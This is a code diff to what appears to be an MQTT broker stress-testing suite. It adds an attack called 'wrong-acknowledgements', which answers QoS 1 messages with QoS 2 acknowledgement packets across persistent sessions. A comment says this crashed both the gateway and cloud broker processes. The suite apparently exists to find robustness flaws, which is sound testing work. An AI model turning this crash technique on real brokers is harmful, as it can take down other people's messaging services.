@@ -1,7 +1,15 @@
 import { setTimeout as wait } from "node:timers/promises";
 import type { Attack, Context, Target } from "../attack.ts";
 import { topic } from "../payloads.ts";
-import { connectRaw, during, openSocket, publication, type RawClient } from "../raw-mqtt.ts";
+import {
+  connectRaw,
+  during,
+  openSocket,
+  publication,
+  publishAll,
+  type RawClient,
+  subscription,
+} from "../raw-mqtt.ts";
 
 const MIB = 1024 * 1024;
 const portOf = ({ site }: Context, target: Exclude<Target, "both">): number =>
@@ -113,5 +121,43 @@ export const willLoop: Attack = {
       [site.gateway.mqttPort, site.cloud.mqttPort].flatMap((port) => [loop(port), loop(port)]),
     );
     note(`${count} connections`);
+  },
+};
+
+/** A PUBREC in the place of a PUBACK, and then a session that begins anew, ended both processes. */
+export const wrongAcknowledgements: Attack = {
+  name: "wrong-acknowledgements",
+  target: "both",
+  what: "persistent sessions that answer QoS 1 with the packets of QoS 2, and begin anew",
+  light: true,
+  async run({ site, amount, note }) {
+    const rounds = amount(40);
+    let heard = 0;
+    for (const [port, filter, message] of [
+      [site.gateway.mqttPort, "house/#", ["house/bell", "ring"]],
+      [site.cloud.mqttPort, "dcz/1/wrong/receipts", [topic("wrong"), "?"]],
+    ] as const) {
+      const sender = await connectRaw(port, "wrong-sender", { username: "wrong" });
+      for (let round = 0; round < rounds; round++) {
+        const name = `wrong-${round}`;
+        const options = { clean: false, username: "wrong" };
+        const away = await connectRaw(port, name, options);
+        await away.send(subscription(filter));
+        await away.answer("suback");
+        away.close();
+        await publishAll(sender, [message, message, message], { ms: 3000 });
+        const back = await connectRaw(port, name, options);
+        for (let tries = 0; tries < 50 && back.heardIds.length < 3; tries++) await wait(10);
+        heard += back.heardIds.length;
+        for (const messageId of back.heardIds) await back.send({ cmd: "pubrec", messageId });
+        await back.answer("pubrel", 500);
+        if (round % 2 === 0)
+          for (const messageId of back.heardIds) await back.send({ cmd: "pubcomp", messageId });
+        back.close();
+        (await connectRaw(port, name, { username: "wrong" })).close();
+      }
+      sender.close();
+    }
+    note(`${2 * rounds} sessions, ${heard} messages answered wrongly`);
   },
 };
